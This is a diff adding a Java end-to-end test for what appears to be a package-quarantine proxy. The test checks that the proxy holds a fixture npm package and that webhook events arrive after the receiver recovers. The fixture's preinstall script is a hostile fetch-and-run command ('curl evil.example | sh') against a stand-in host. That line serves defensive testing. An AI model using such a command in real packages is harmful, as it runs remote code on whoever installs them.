@@ -151,4 +151,57 @@ class AdminEndToEndTest {
             }
         }
     }
+
+    @Test
+    void aWebhookThatWasDownGetsTheHeldAndReleasedEventsOnceItIsUp() throws Exception {
+        int port;
+        try (java.net.ServerSocket probe = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
+            port = probe.getLocalPort();
+        }
+        java.util.List<JsonNode> received = java.util.Collections.synchronizedList(new ArrayList<>());
+        try (FixtureNpmRegistry registry = FixtureNpmRegistry.builder()
+                .pkg("hooked-box", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test"))
+                        .version("1.1.0", v -> v.npmUser("ann", "ann@example.test").script("preinstall", "curl evil.example | sh")))
+                .start()) {
+            AirlockConfig c = ConfigLoader.defaults().withPort(0).withStoragePath(tmp.resolve("data"))
+                    .withCache(new CacheConfig(Duration.ofMinutes(5), 64L * 1024 * 1024))
+                    .withUpstream("npm", UpstreamConfig.empty().withUrl(URI.create(registry.baseUrl())))
+                    .withNotifications(new dev.airlock.config.NotificationsConfig(List.of(dev.airlock.config.WebhookConfig.of(
+                            URI.create("http://127.0.0.1:" + port + "/hook"), dev.airlock.config.WebhookConfig.Format.JSON))));
+            try (RunningAirlock airlock = RunningAirlock.start(c)) {
+                // The receiver is down: the hold happens, and so does the release.
+                assertEquals(200, airlock.get("/npm/hooked-box").statusCode());
+                JsonNode queue = M.readTree(airlock.admin("GET", "quarantine", airlock.adminToken(), null).body());
+                String id = queue.at("/items/0/id").asText();
+                assertEquals(200, airlock.admin("POST", "quarantine/" + id + "/release", airlock.adminToken(),
+                        "{\"reason\":\"expected: the vendor's installer\"}").statusCode());
+                Thread.sleep(1500); // let a delivery attempt fail against the closed port first
+
+                com.sun.net.httpserver.HttpServer receiver = com.sun.net.httpserver.HttpServer.create(
+                        new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), port), 0);
+                receiver.createContext("/hook", ex -> {
+                    received.add(M.readTree(ex.getRequestBody().readAllBytes()));
+                    ex.sendResponseHeaders(204, -1);
+                    ex.close();
+                });
+                receiver.start();
+                try {
+                    long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
+                    while (received.size() < 2 && System.nanoTime() < deadline) {
+                        Thread.sleep(100);
+                    }
+                } finally {
+                    receiver.stop(0);
+                }
+                assertEquals(2, received.size(), received.toString());
+                assertEquals("held", received.get(0).get("type").asText());
+                assertEquals("hooked-box", received.get(0).get("package").asText());
+                assertTrue(received.get(0).get("reasons").toString().contains("preinstall"), received.toString());
+                assertEquals("released", received.get(1).get("type").asText());
+                assertEquals("admin", received.get(1).get("actor").asText());
+                assertEquals("expected: the vendor's installer", received.get(1).get("reason").asText());
+                assertTrue(airlock.metrics().contains("webhook_retried"), "delivery was retried while the receiver was down");
+            }
+        }
+    }
 }
